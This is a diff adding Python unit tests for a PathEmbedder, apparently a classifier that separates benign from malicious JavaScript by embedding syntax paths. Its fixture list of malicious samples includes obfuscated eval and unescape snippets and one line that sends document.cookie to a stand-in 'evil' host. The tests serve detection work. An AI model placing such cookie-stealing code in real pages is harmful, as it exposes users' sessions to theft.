@@ -1,0 +1,84 @@
+"""Unit tests for the PathEmbedder pre-training protocol."""
+
+import numpy as np
+import pytest
+
+from repro.embedding import PathEmbedder
+from repro.paths import extract_paths
+
+BENIGN_SNIPPETS = [
+    "function setup(opts) { var controls = opts.controls; return controls; }",
+    "var list = [1, 2, 3]; for (var i = 0; i < 3; i++) { render(list[i]); }",
+    "function add(a, b) { return a + b; } var total = add(1, 2);",
+    "var cfg = { width: 100, height: 50 }; draw(cfg.width, cfg.height);",
+]
+
+MALICIOUS_SNIPPETS = [
+    "var payload = 'ab' + 'cd'; eval(payload);",
+    "var h = '68'; var e = '65'; document.write(unescape('%' + h + '%' + e));",
+    "var s = str.charCodeAt(0) ^ 42; out[0] = String.fromCharCode(s);",
+    "var u = 'http://evil'; window.location = u + '/x?' + document.cookie;",
+]
+
+
+def corpus():
+    scripts = [extract_paths(s) for s in BENIGN_SNIPPETS + MALICIOUS_SNIPPETS]
+    labels = [0] * len(BENIGN_SNIPPETS) + [1] * len(MALICIOUS_SNIPPETS)
+    return scripts, labels
+
+
+class TestFit:
+    def test_history_recorded(self):
+        scripts, labels = corpus()
+        embedder = PathEmbedder(embed_dim=16, epochs=3, seed=0)
+        embedder.fit(scripts, labels)
+        assert len(embedder.history.losses) == 3
+        assert embedder.is_trained
+
+    def test_loss_decreases(self):
+        scripts, labels = corpus()
+        embedder = PathEmbedder(embed_dim=16, epochs=15, lr=3e-3, seed=0)
+        embedder.fit(scripts, labels)
+        assert embedder.history.losses[-1] < embedder.history.losses[0]
+
+    def test_mismatched_lengths_rejected(self):
+        with pytest.raises(ValueError):
+            PathEmbedder(embed_dim=8, epochs=1).fit([[]], [0, 1])
+
+    def test_all_empty_scripts_rejected(self):
+        with pytest.raises(ValueError):
+            PathEmbedder(embed_dim=8, epochs=1).fit([[], []], [0, 1])
+
+
+class TestEmbed:
+    def test_embed_shapes(self):
+        scripts, labels = corpus()
+        embedder = PathEmbedder(embed_dim=16, epochs=2, seed=0).fit(scripts, labels)
+        contexts = extract_paths("var q = 1; use(q);")
+        vectors, weights = embedder.embed(contexts)
+        assert vectors.shape == (len(contexts), 16)
+        assert weights.shape == (len(contexts),)
+        assert weights.sum() == pytest.approx(1.0)
+
+    def test_empty_script_embeds_empty(self):
+        scripts, labels = corpus()
+        embedder = PathEmbedder(embed_dim=16, epochs=1, seed=0).fit(scripts, labels)
+        vectors, weights = embedder.embed([])
+        assert vectors.shape == (0, 16)
+        assert weights.shape == (0,)
+
+    def test_path_cap_respected_in_training(self):
+        scripts, labels = corpus()
+        embedder = PathEmbedder(embed_dim=8, epochs=1, seed=0, max_paths_per_script=5)
+        embedder.fit(scripts, labels)  # must not error on big scripts
+        assert embedder.is_trained
+
+    def test_deterministic_given_seed(self):
+        scripts, labels = corpus()
+        e1 = PathEmbedder(embed_dim=8, epochs=2, seed=42).fit(scripts, labels)
+        e2 = PathEmbedder(embed_dim=8, epochs=2, seed=42).fit(scripts, labels)
+        contexts = extract_paths("var z = 3; f(z);")
+        v1, w1 = e1.embed(contexts)
+        v2, w2 = e2.embed(contexts)
+        assert np.allclose(v1, v2)
+        assert np.allclose(w1, w2)
